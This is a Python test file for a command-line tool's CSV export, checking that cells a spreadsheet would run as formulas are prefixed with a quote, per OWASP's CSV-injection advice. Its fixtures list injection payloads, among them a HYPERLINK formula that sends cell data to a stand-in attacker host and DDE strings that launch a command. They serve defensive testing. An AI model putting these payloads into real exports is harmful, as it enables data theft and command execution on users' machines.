"""`-o csv` cells a spreadsheet would run as formulas start with `'` (OWASP's advice on CSV injection).

Numbers stay numbers: the columns specaccept computes, JSON numbers in the data, and strings that
are plain numbers ("-3"), which a spreadsheet reads as that number and never as a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from specaccept_cli.views.records import spreadsheet_safe
from tests.helpers import FIRST_EXAMPLE, invoke, write_jsonl

HOSTILE = {
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")': '\'=HYPERLINK("http://attacker.invalid/?x="&A1,"open")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "\t=1+1": "'\\x09=1+1",  # the tab made visible, and quoted off all the same
    "\r=1+1": "'\\x0d=1+1",
    "-": "'-",
}
HARMLESS = ["req-1", "a=b", "", " =1", "-3", "+1.5e3", "-.5", "12"]


def _cells(stdout: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(stdout)))


def test_formula_cells_start_with_a_quote_and_the_rest_is_unchanged(tmp_path: Path) -> None:
    values: list[object] = [*HOSTILE, *HARMLESS, -3, -1.5, 7, None, ["=1"], {"=a": 1}]
    path = write_jsonl(tmp_path / "ids.jsonl", [{**FIRST_EXAMPLE, "id": value} for value in values])
    result = invoke("audit", str(path), "-o", "csv", "--id-field", "id")
    assert result.exit_code == 0, result.stderr
    header, *rows = _cells(result.stdout)
    assert header == ["source", "line", "k", "accepted", "emitted", "id"]
    ids = [row[-1] for row in rows]
    assert ids == [
        *HOSTILE.values(),
        *HARMLESS,
        "-3",  # a JSON number: written as the number it is
        "-1.5",
        "7",
        "",
        '["=1"]',  # non-scalars are JSON text: they start with [ or {
        '{"=a":1}',
    ]
    assert all(row[1:5] == [str(index + 1), "3", "1", "2"] for index, row in enumerate(rows))  # numbers untouched


def test_a_source_name_that_starts_a_formula_is_quoted_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    write_jsonl(tmp_path / "=cmd.jsonl", [{**FIRST_EXAMPLE, "id": "a"}, {**FIRST_EXAMPLE, "id": "b"}])
    for ids in ([], ["--id-field", "id"]):  # the two ways rows are written: with and without id columns
        result = invoke("audit", "=cmd.jsonl", "-o", "csv", *ids)
        assert result.exit_code == 0, result.stderr
        assert [row[0] for row in _cells(result.stdout)[1:]] == ["'=cmd.jsonl", "'=cmd.jsonl"]


def test_a_file_without_hostile_cells_has_the_same_bytes_as_before(tmp_path: Path) -> None:
    """Ordinary ids, sources and every computed column: nothing gains a quote."""
    path = write_jsonl(tmp_path / "plain.jsonl", [{**FIRST_EXAMPLE, "id": f"req-{i}", "n": -i} for i in range(5)])
    result = invoke("audit", str(path), "-o", "csv", "--id-field", "id", "--id-field", "n")
    lines = result.stdout.splitlines()
    assert lines[0] == "source,line,k,accepted,emitted,id,n"
    assert lines[1:] == [f"{path},{i + 1},3,1,2,req-{i},{-i}" for i in range(5)]


def test_spreadsheet_safe_follows_the_owasp_list() -> None:
    for start in "=+-@\t\r":
        assert spreadsheet_safe(start + "x") == "'" + start + "x"
    for text in ("x=1", "'=already", "-1", "+2", "3.5e-2", "", "~x", "%x"):
        assert spreadsheet_safe(text) == text
